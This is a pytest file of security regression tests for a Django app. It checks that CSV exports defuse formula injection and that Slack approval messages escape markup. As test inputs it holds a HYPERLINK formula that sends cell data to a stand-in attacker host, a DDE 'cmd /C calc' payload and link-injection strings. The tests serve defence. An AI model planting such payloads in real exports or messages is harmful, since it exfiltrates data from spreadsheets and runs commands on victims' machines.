"""Security regressions of the rules, Slack and CSV findings (shared/SECURITY_AUDIT.md):
H2, M5 (rules), M2 (CSV formula injection), M3, L1, L6 (Slack). Each test is named after its
finding and failed on b77ab62."""

import csv
import io

import pytest
from django.test import Client

from tests.budgets.helpers import admit, post_events, step
from tests.conftest import ApiClient
from tests.factories import make_key

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _records(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode())))


def _cells(records) -> list[str]:
    return [cell for record in records for cell in record]


def _browser(principal) -> Client:
    browser = Client()
    browser.force_login(principal.user)
    return browser


# ---- M2: CSV formula injection -------------------------------------------------------------


def test_m2_the_audit_csv_neutralises_a_failed_sign_ins_user_agent(client, tenant_a, admin_a):
    # no credentials at all: a failed sign-in of a real login, with a formula as User-Agent
    client.post(
        "/accounts/login/",
        {"username": "admin@a.example", "password": "wrong"},
        headers={"User-Agent": FORMULA},
    )
    admin = ApiClient(Client(), make_key(tenant_a, scopes=("manage",), principal=admin_a))
    records = _records(admin.get("/api/v1/audit", format="csv", action="signin.failed"))
    header, row = records[0], records[1]
    assert row[header.index("userAgent")] == "'" + FORMULA
    assert not [c for c in _cells(records) if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.fixture
def formula_usage(ingest_a):
    """A runtime's key registers a principal and a model named like formulas."""
    admit(ingest_a, "x1", principal=FORMULA)
    post_events(ingest_a, "x1", step(1, 1, usage=(3, 2, 5), model="@SUM(1+1)*cmd|' /C calc'!A0"))


def test_m2_the_usage_csv_of_the_api_neutralises_principal_and_model(
    formula_usage, tenant_a, admin_a
):
    admin = ApiClient(Client(), make_key(tenant_a, scopes=("manage",), principal=admin_a))
    response = admin.get("/api/v1/usage", format="csv", groupBy="principal,agent,model")
    records = _records(response)
    assert records[0][:3] == ["principalId", "agentId", "model"]
    [row] = records[1:]
    assert row[0] == "'" + FORMULA and row[2] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert not [c for c in _cells(records) if c.startswith(("=", "+", "@", "\t", "\r"))]


def test_m2_the_usage_csv_page_neutralises_a_principal_named_like_a_formula(formula_usage, lead_a):
    page = _browser(lead_a).get("/budgets/usage.csv", {"groupBy": "principal,agent,model"})
    assert page.status_code == 200
    [row] = _records(page)[1:]
    assert row[0] == "'" + FORMULA


def test_m2_the_one_csv_helper_neutralises_text_only_and_keeps_numbers():
    from console.csvsafe import csv_cell, csv_text  # (new: imported here, so that this file
    # also runs against the code before the fix and each test fails alone)

    assert csv_cell("=1+1") == "'=1+1" and csv_cell("+1") == "'+1" and csv_cell("-x") == "'-x"
    assert csv_cell("@x") == "'@x" and csv_cell("\tx") == "'\tx" and csv_cell("\rx") == "'\rx"
    assert csv_cell(-5) == -5 and csv_cell(2.5) == 2.5 and csv_cell("a=b") == "a=b"
    assert csv_text([["-5", -5, None, "ok"]]) == "'-5,-5,,ok\r\n"


# ---- L6: Slack message formatting ----------------------------------------------------------

BACKTICK_TOOL = "x` *pwn* <https://evil.example|click> `y"
LINKY_REASON = "log in at http://evil.example/login or www.evil.example, mail help@evil.example"


def _mrkdwn_objects(message: dict) -> list[dict]:
    found = []
    for block in message["blocks"]:
        for obj in [block.get("text"), *block.get("fields", []), *block.get("elements", [])]:
            if isinstance(obj, dict) and obj.get("type") == "mrkdwn":
                found.append(obj)
    return found


def _l6_message():
    from notifications.slack import approval_message

    approval = {"id": "apr_1", "status": "pending", "toolName": BACKTICK_TOOL, "runId": "r.1",
                "reason": LINKY_REASON, "arguments": {"q": "a`b```c"}}  # fmt: skip
    return approval_message("approval.requested", approval, run_for="http://evil.example")


def test_l6_a_back_tick_in_a_tool_name_cannot_close_its_code_span():
    message = _l6_message()
    [tool] = [o["text"] for o in _mrkdwn_objects(message) if o["text"].startswith("*Tool*")]
    body = tool.removeprefix("*Tool*\n")
    assert body.startswith("`") and body.endswith("`") and body.count("`") == 2
    assert "&lt;https:" in body  # and no link markup either
    [summary] = [o["text"] for o in _mrkdwn_objects(message) if o["text"].startswith("```")]
    assert summary.count("`") == 6  # the block's own fences only


def test_l6_bare_urls_domains_and_addresses_are_not_linked():
    import re

    message = _l6_message()
    prose = [
        o["text"] for o in _mrkdwn_objects(message) if not o["text"].startswith(("```", "*Tool*"))
    ]
    prose.append(message["text"])
    linkable = re.compile(r"https?:/|www\.\w|\w\.\w|\w@\w")
    for text in prose:
        assert not linkable.search(text), text
    # what a reader sees is unchanged (the joiner is invisible)
    reason = next(t for t in prose if t.startswith("*Reason*"))
    assert reason.replace("\u2060", "") == "*Reason*\n" + LINKY_REASON
    # and Slack is told not to parse any of it (its documented switch)
    assert all(o.get("verbatim") is True for o in _mrkdwn_objects(message))
